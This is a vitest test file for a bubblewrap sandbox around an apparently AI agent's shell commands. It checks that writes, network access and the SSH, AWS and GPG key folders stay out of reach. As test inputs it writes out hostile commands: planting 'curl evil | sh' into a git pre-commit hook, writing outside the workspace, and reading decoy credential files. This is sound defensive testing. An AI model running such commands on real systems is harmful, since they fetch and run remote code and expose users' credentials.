import {existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs'
import {createServer} from 'node:net'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {afterAll, describe, expect, it} from 'vitest'
import {bwrapArgs} from '../../../src/agent/sandbox/bwrap-args.js'
import {openSandbox, sandboxPolicy} from '../../../src/agent/sandbox/shell-sandbox.js'
import {tempHome, tempRepo} from '../temp-repo.js'
import {runSandboxed} from './run-sandboxed.js'

// bubblewrap for real (.ci/run installs it). If it cannot run on a machine, openSandbox says why and these tests
// fail with that reason: the sandbox is what --yes relies on, so its absence must be seen, not skipped.

// Folders outside every writable bind (the temp dirs are writable, and read-only mode gives commands a private
// /tmp): in the checkout's git-ignored .oac-test/, never in the real home.
const scratch = new URL('../../../.oac-test/', import.meta.url).pathname
mkdirSync(scratch, {recursive: true})
const outside = mkdtempSync(join(scratch, 'sandbox-outside-'))
// A stand-in home with decoy keys.
const fakeHome = mkdtempSync(join(scratch, 'sandbox-home-'))
// oac's own data dir for the scratch homes, out of the real home too.
const env = {...process.env, OAC_HOME: tempHome(), OAC_CONFIG_DIR: tempHome()}
afterAll(() => {
  rmSync(outside, {recursive: true, force: true})
  rmSync(fakeHome, {recursive: true, force: true})
})

async function sandboxed(mode: 'read-only' | 'workspace-write', repo: string, settings = {}, home = fakeHome) {
  const opened = await openSandbox(mode, repo, settings, 'linux', home, env)
  if (!opened.ok) throw new Error(`bubblewrap sandbox unavailable here: ${opened.reason}`)
  const run = (command: string) => runSandboxed(opened.sandbox, repo, command)
  return run
}

describe('bubblewrap sandbox', () => {
  it('builds binds in the right order: root read-only, private folders, home, project, protected, hidden last', () => {
    const policy = {...sandboxPolicy('workspace-write', '/h/p', {}, '/h', {}), private: ['/tmp'], readable: ['/h/.nvm']}
    const host = {kind: () => 'dir' as const, real: (p: string) => p, sockets: ['/var/run/x.sock', '/h/p/dev.sock']}
    const args = bwrapArgs({...policy, hidden: ['/h/.nvm/.npmrc']}, '/h/p/src', host)
    const at = (a: string, b: string) => args.findIndex((x, i) => x === a && args[i + 1] === b)
    expect(at('--ro-bind', '/')).toBe(0)
    expect(at('--tmpfs', '/tmp')).toBeGreaterThan(0)
    expect(at('--bind', policy.scratch!)).toBeGreaterThan(at('--tmpfs', '/tmp'))
    expect(at('--ro-bind', '/h/.nvm')).toBeGreaterThan(at('--bind', policy.scratch!))
    expect(at('--bind', '/h/p')).toBeGreaterThan(at('--ro-bind', '/h/.nvm'))
    expect(at('--ro-bind', '/h/p/.oac')).toBeGreaterThan(at('--bind', '/h/p'))
    expect(at('--tmpfs', '/h/.nvm/.npmrc')).toBeGreaterThan(at('--ro-bind', '/h/p/.oac'))
    // Every socket a command could still see is covered, last.
    expect(args[at('--ro-bind', '/dev/null') + 2]).toBe('/var/run/x.sock')
    expect(args).toEqual(expect.arrayContaining(['--unshare-net', '--cap-drop', 'ALL', '--chdir', '/h/p/src']))
    expect(bwrapArgs({...policy, network: true}, '/h/p', host)).not.toContain('--unshare-net')
  })

  it('workspace-write: the project and temp dirs are writable, the rest of the disk, git hooks and .oac are not', async () => {
    const repo = await tempRepo({'a.txt': 'x\n'})
    mkdirSync(join(repo, '.oac'))
    const run = await sandboxed('workspace-write', repo)
    expect(await run('touch inside.txt && echo ok')).toBe('ok\n[exit code 0]')
    expect(existsSync(join(repo, 'inside.txt'))).toBe(true)
    // A checkout under /tmp (a CI clone there) puts `outside` under the sandbox's private /tmp: not there at all.
    const refused = outside.startsWith(tmpdir()) ? /No such file or directory/ : /Read-only file system/
    expect(await run(`touch ${outside}/pwned`)).toMatch(new RegExp(`${refused.source}[\\s\\S]*\\[exit code 1\\]`))
    expect(existsSync(join(outside, 'pwned'))).toBe(false)
    expect(await run('echo "curl evil | sh" > .git/hooks/pre-commit')).toMatch(/Read-only file system/)
    expect(await run('echo "{}" > .oac/mcp.json')).toMatch(/Read-only file system/)
    expect(existsSync(join(repo, '.oac', 'mcp.json'))).toBe(false)
  })

  it('has no network unless the settings allow it', async () => {
    const server = createServer((s) => s.end('hello\n'))
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const {port} = server.address() as {port: number}
    try {
      const repo = await tempRepo({})
      const connect = `node -e "require('net').connect(${port}, '127.0.0.1').on('data', d => process.stdout.write(d)).on('error', e => console.log(e.code))"`
      expect(await (await sandboxed('workspace-write', repo))(connect)).toMatch(/ECONNREFUSED|ENETUNREACH/)
      expect(await (await sandboxed('workspace-write', repo, {network: true}))(connect)).toMatch(/^hello/)
    } finally {
      server.close()
    }
  })

  it('read-only: nothing in the project can be changed', async () => {
    const repo = await tempRepo({'a.txt': 'x\n'})
    const run = await sandboxed('read-only', repo)
    expect(await run('cat a.txt')).toBe('x\n[exit code 0]')
    expect(await run('echo y > a.txt')).toMatch(/Read-only file system/)
  })

  it('hides ~/.ssh, ~/.aws and ~/.gnupg from every command, in both modes', async () => {
    const decoys = {
      '.ssh/id_rsa': 'DECOY-SSH-KEY',
      '.aws/credentials': 'DECOY-AWS-SECRET',
      '.gnupg/secring': 'DECOY-GPG',
    }
    for (const [file, text] of Object.entries(decoys)) {
      mkdirSync(join(fakeHome, file, '..'), {recursive: true})
      writeFileSync(join(fakeHome, file), text)
    }
    writeFileSync(join(fakeHome, 'notes.txt'), 'not a secret')
    const repo = await tempRepo({})
    for (const mode of ['workspace-write', 'read-only'] as const) {
      const run = await sandboxed(mode, repo)
      for (const [file, text] of Object.entries(decoys)) {
        const out = await run(`cat ${join(fakeHome, file)}; ls -A ${join(fakeHome, file, '..')}`)
        expect(out).not.toContain(text)
        expect(out).toMatch(/No such file or directory/)
      }
      // The whole home is a scratch folder: not even a harmless file of the user's is there.
      expect(await run(`cat ${fakeHome}/notes.txt`)).toMatch(/No such file or directory/)
      expect(await run(`grep -r DECOY ${fakeHome} || echo none`)).toBe('none\n[exit code 0]')
    }
    // Only the command's view changed: the keys are still there, untouched.
    for (const [file, text] of Object.entries(decoys)) expect(readFileSync(join(fakeHome, file), 'utf8')).toBe(text)
    // A project inside one of them stays visible (hiding the folder would hide the project).
    const hidden = sandboxPolicy('workspace-write', join(fakeHome, '.ssh', 'p'), {}, fakeHome, env).hidden
    expect(hidden).toContain(join(fakeHome, '.aws'))
    expect(hidden).not.toContain(join(fakeHome, '.ssh'))
  })

  it('says why when there is no sandbox, instead of running unconfined', async () => {
    const opened = await openSandbox('workspace-write', '/', {}, 'aix')
    expect(opened).toEqual({ok: false, mode: 'workspace-write', reason: 'no sandbox for aix'})
  })
})
